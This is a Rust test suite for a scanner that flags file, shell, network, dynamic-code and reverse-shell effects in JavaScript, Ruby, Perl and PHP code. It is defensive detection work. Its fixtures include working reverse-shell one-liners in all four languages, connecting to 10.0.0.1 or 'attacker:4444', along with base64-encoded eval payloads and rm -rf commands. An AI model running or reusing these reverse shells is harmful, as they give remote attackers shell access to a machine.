//! JavaScript, Ruby, Perl and PHP.

use super::super::Effect::{Delete, Exec, Network, Read, ReverseShell, Shell, Write};
use super::super::Language::{JavaScript, Perl, Php, Ruby};
use super::super::scan;
use super::{BUILT, argv, dynamic, s};

// JavaScript

#[test]
fn js_fs_calls() {
    let code = r#"const fs = require("fs");
require('fs').rmSync('dist', { recursive: true });
fs.promises.rm("x");
fs.writeFileSync("out.txt", data);
fs.readFileSync("/etc/hosts", "utf8");
fs.unlink(p, cb);"#;
    let expected = vec![
        Delete(s("dist")),
        Delete(s("x")),
        Write(s("out.txt")),
        Read(s("/etc/hosts")),
        Delete(None),
    ];
    assert_eq!(scan(code, JavaScript), expected);
}

#[test]
fn js_imports() {
    let code = "import { rm as remove } from 'node:fs/promises';\nimport * as cp from 'child_process';\nawait remove('y');\ncp.execSync('make');";
    assert_eq!(
        scan(code, JavaScript),
        vec![Delete(s("y")), Shell(s("make"))]
    );
}

#[test]
fn js_child_process() {
    let code = r#"const { execSync, spawn, execFile: ef } = require("child_process");
execSync("npm test");
spawn("rm", ["-rf", "x"]);
spawn(cmd, args);
ef("git", ["status"], { cwd });
execSync(`rm -rf ${dir}`);
execSync(`ls`);
spawn("ls", { shell: true });"#;
    let expected = vec![
        Shell(s("npm test")),
        argv(&["rm", "-rf", "x"]),
        Exec(None),
        argv(&["git", "status"]),
        Shell(None),
        Shell(s("ls")),
        Shell(s("ls")),
    ];
    assert_eq!(scan(code, JavaScript), expected);
}

#[test]
fn js_network() {
    let code = "fetch('https://a.example/x');\naxios.post(\"https://b.example\", data);\nconst https = require('https');\nhttps.get(options, cb);";
    let expected = vec![
        Network(s("https://a.example/x")),
        Network(s("https://b.example")),
        Network(None),
    ];
    assert_eq!(scan(code, JavaScript), expected);
}

#[test]
fn js_dynamic_code() {
    assert_eq!(scan("eval(code)", JavaScript), vec![dynamic(BUILT)]);
    assert_eq!(
        scan("new Function('a', 'return a + 1')", JavaScript),
        vec![]
    );
    assert_eq!(
        scan("require(name)", JavaScript),
        vec![dynamic("loads a module named at run time")]
    );
    assert_eq!(
        scan("require('vm').runInThisContext(src)", JavaScript),
        vec![dynamic(BUILT)]
    );
    assert_eq!(
        scan("global[name]('x')", JavaScript),
        vec![dynamic("calls a property named at run time")]
    );
    assert_eq!(
        scan("require('child_process')['exec']('id')", JavaScript),
        vec![Shell(s("id"))]
    );
    assert_eq!(
        scan("eval(atob('YWxlcnQoMSk='))", JavaScript),
        vec![dynamic(BUILT), dynamic("runs decoded code")]
    );
}

#[test]
fn js_comments_regexes_and_strings_are_inert() {
    let code = r#"#!/usr/bin/env node
// fs.rmSync("/")
/* child_process.exec("x") */
const r = /"fs.rmSync('a')/g;
console.log("fs.unlinkSync('b')", 'eval(x)', `${a}`, x / 2);"#;
    assert_eq!(scan(code, JavaScript), vec![]);
}

#[test]
fn js_template_code_is_scanned() {
    let code = "console.log(`${require('child_process').execSync('id')}`)";
    assert_eq!(scan(code, JavaScript), vec![Shell(s("id"))]);
}

#[test]
fn js_reverse_shell() {
    let code = r#"(function(){var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);var client = new net.Socket();client.connect(8080, "10.0.0.1", function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});return /a/;})();"#;
    assert_eq!(
        scan(code, JavaScript),
        vec![
            argv(&["/bin/sh"]),
            Network(s("10.0.0.1:8080")),
            ReverseShell
        ]
    );
}

// Ruby

#[test]
fn ruby_deletes_without_parentheses() {
    let code = "require 'fileutils'\nFileUtils.rm_rf \"tmp\"\nFile.delete('a', 'b')\nFileUtils.rm_r(%w[c d])\nDir.rmdir dir";
    let expected = vec![
        Delete(s("tmp")),
        Delete(s("a")),
        Delete(s("b")),
        Delete(s("c")),
        Delete(s("d")),
        Delete(None),
    ];
    assert_eq!(scan(code, Ruby), expected);
}

#[test]
fn ruby_commands() {
    let code = "system \"make install\"\nsystem(\"rm\", \"-rf\", \"x\")\nout = `ls -la`\nme = %x{whoami}\nexec \"ls #{dir}\" if ok\nIO.popen(%w[git status])";
    let expected = vec![
        Shell(s("make install")),
        argv(&["rm", "-rf", "x"]),
        Shell(s("ls -la")),
        Shell(s("whoami")),
        Shell(None),
        argv(&["git", "status"]),
    ];
    assert_eq!(scan(code, Ruby), expected);
}

#[test]
fn ruby_files_and_network() {
    let code = r#"File.write("a.txt", "x")
File.open("b", "w") { |f| f.puts 1 }
File.read "c"
open("|date")
URI.open("https://x.example")
Net::HTTP.get(URI("https://y.example/p"))"#;
    let expected = vec![
        Write(s("a.txt")),
        Write(s("b")),
        Read(s("c")),
        Shell(s("date")),
        Network(s("https://x.example")),
        Network(s("https://y.example/p")),
    ];
    assert_eq!(scan(code, Ruby), expected);
}

#[test]
fn ruby_dynamic_code() {
    assert_eq!(scan("eval(\"system('id')\")", Ruby), vec![Shell(s("id"))]);
    assert_eq!(scan("send(:system, 'id')", Ruby), vec![Shell(s("id"))]);
    assert_eq!(
        scan("obj.send(name)", Ruby),
        vec![dynamic("calls a method named at run time")]
    );
    let decoded = "eval(Base64.decode64(payload))";
    assert_eq!(
        scan(decoded, Ruby),
        vec![dynamic(BUILT), dynamic("runs decoded code")]
    );
}

#[test]
fn ruby_comments_and_heredocs() {
    let code = "# system('x')\n=begin\nFileUtils.rm_rf('/')\n=end\nputs <<~EOS\n  File.delete('y')\nEOS\nsystem <<~CMD\n  make\nCMD\n";
    assert_eq!(scan(code, Ruby), vec![Shell(s("make\n"))]);
}

#[test]
fn ruby_interpolated_code_is_scanned() {
    assert_eq!(
        scan("puts \"#{`id`} #{File.delete('x')}\"", Ruby),
        vec![Shell(s("id")), Delete(s("x"))]
    );
}

#[test]
fn ruby_reverse_shell() {
    let code = r#"f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)"#;
    assert_eq!(
        scan(code, Ruby),
        vec![Network(s("10.0.0.1:1234")), Shell(None), ReverseShell]
    );
}

// Perl

#[test]
fn perl_deletes() {
    let code = "use File::Path qw(rmtree);\nunlink \"a\", \"b\";\nrmtree(\"/tmp/x\");\nFile::Path::remove_tree($d);\nunlink glob('*.tmp') or die;";
    let expected = vec![
        Delete(s("a")),
        Delete(s("b")),
        Delete(s("/tmp/x")),
        Delete(None),
        Delete(None),
    ];
    assert_eq!(scan(code, Perl), expected);
}

#[test]
fn perl_commands() {
    let code = "system(\"ls -l\");\nsystem \"rm\", \"-rf\", \"x\";\nmy $o = qx(whoami);\nmy $p = `id`;\nexec qw(ls -a);\nsystem $cmd;";
    let expected = vec![
        Shell(s("ls -l")),
        argv(&["rm", "-rf", "x"]),
        Shell(s("whoami")),
        Shell(s("id")),
        argv(&["ls", "-a"]),
        Shell(None),
    ];
    assert_eq!(scan(code, Perl), expected);
}

#[test]
fn perl_open_forms() {
    let code = "open(my $fh, '<', 'in.txt') or die;\nopen(OUT, \">out.txt\");\nopen(my $p, \"ls |\");\nopen my $q, '-|', 'git', 'log';\nopen(my $r, $file);";
    let expected = vec![
        Read(s("in.txt")),
        Write(s("out.txt")),
        Shell(s("ls")),
        argv(&["git", "log"]),
        Read(None),
    ];
    assert_eq!(scan(code, Perl), expected);
}

#[test]
fn perl_http_clients() {
    let code = "use LWP::Simple;\ngetstore(\"http://x.example/a\", \"a\");\nmy $ua = LWP::UserAgent->new;\n$ua->get('https://y.example');";
    assert_eq!(
        scan(code, Perl),
        vec![
            Network(s("http://x.example/a")),
            Network(s("https://y.example"))
        ]
    );
    assert_eq!(scan("my %h; $h->get('k'); get('x');", Perl), vec![]);
}

#[test]
fn perl_quoting_is_inert() {
    let code = "my $s = q{system(\"rm -rf /\")};\n$x =~ s/unlink//g;\n$y =~ tr/a-z/A-Z/;\nprint \"unlink 'x'\";\nmy @w = qw(system exec);\nprint <<EOF;\nunlink('x');\nEOF\n=pod\n\nsystem('x')\n\n=cut\n";
    assert_eq!(scan(code, Perl), vec![]);
}

#[test]
fn perl_interpolated_code_is_scanned() {
    assert_eq!(
        scan("print \"@{[ unlink 'x' ]}\";", Perl),
        vec![Delete(s("x"))]
    );
}

#[test]
fn perl_eval() {
    assert_eq!(scan("eval \"unlink('a')\";", Perl), vec![Delete(s("a"))]);
    assert_eq!(scan("eval { unlink($f) };", Perl), vec![Delete(None)]);
    assert_eq!(scan("eval $code;", Perl), vec![dynamic(BUILT)]);
}

#[test]
fn perl_reverse_shells() {
    let classic = r#"use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};"#;
    assert_eq!(
        scan(classic, Perl),
        vec![Network(None), Shell(s("/bin/sh -i")), ReverseShell]
    );
    let io = r#"$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"attacker:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"#;
    assert_eq!(
        scan(io, Perl),
        vec![Network(s("attacker:4444")), Shell(None), ReverseShell]
    );
}

// PHP

#[test]
fn php_files_and_network() {
    let code = "<p>system('x')</p><?php unlink(\"a.txt\"); file_put_contents('b.txt', $d); echo file_get_contents('https://x.example'); $fs->remove('c'); ?><b>exec('y')</b>";
    let expected = vec![
        Delete(s("a.txt")),
        Write(s("b.txt")),
        Network(s("https://x.example")),
        Delete(s("c")),
    ];
    assert_eq!(scan(code, Php), expected);
}

#[test]
fn php_commands() {
    let code = "system('ls'); echo shell_exec($cmd); echo `id`; passthru(\"whoami\"); SYSTEM('pwd'); \\exec('date');";
    let expected = vec![
        Shell(s("ls")),
        Shell(None),
        Shell(s("id")),
        Shell(s("whoami")),
        Shell(s("pwd")),
        Shell(s("date")),
    ];
    assert_eq!(scan(code, Php), expected);
}

#[test]
fn php_collections_are_not_filesystems() {
    let code = "$list->remove($x); $fs->remove(['a', 'b']); $this->filesystem->remove('c');";
    assert_eq!(
        scan(code, Php),
        vec![Delete(s("a")), Delete(s("b")), Delete(s("c"))]
    );
}

#[test]
fn php_heredoc() {
    assert_eq!(
        scan("system(<<<EOT\nls -la\nEOT);\necho \"rm $x\";", Php),
        vec![Shell(s("ls -la"))]
    );
}

#[test]
fn php_comments_are_inert() {
    assert_eq!(
        scan(
            "# system('x');\n// exec('y');\n/* passthru('z'); */\necho 'system(1)';",
            Php
        ),
        vec![]
    );
}

#[test]
fn php_dynamic_code() {
    assert_eq!(scan("eval($x);", Php), vec![dynamic(BUILT)]);
    assert_eq!(
        scan("$f('ls');", Php),
        vec![dynamic("calls a function named by a variable")]
    );
    assert_eq!(
        scan("call_user_func('system', 'id');", Php),
        vec![Shell(s("id"))]
    );
    let decoded = "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));";
    assert_eq!(
        scan(decoded, Php),
        vec![dynamic(BUILT), dynamic("runs decoded code")]
    );
}

#[test]
fn php_reverse_shell() {
    let code = r#"$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");"#;
    let expected = vec![
        Network(s("10.0.0.1:1234")),
        Shell(s("/bin/sh -i <&3 >&3 2>&3")),
        ReverseShell,
    ];
    assert_eq!(scan(code, Php), expected);
}
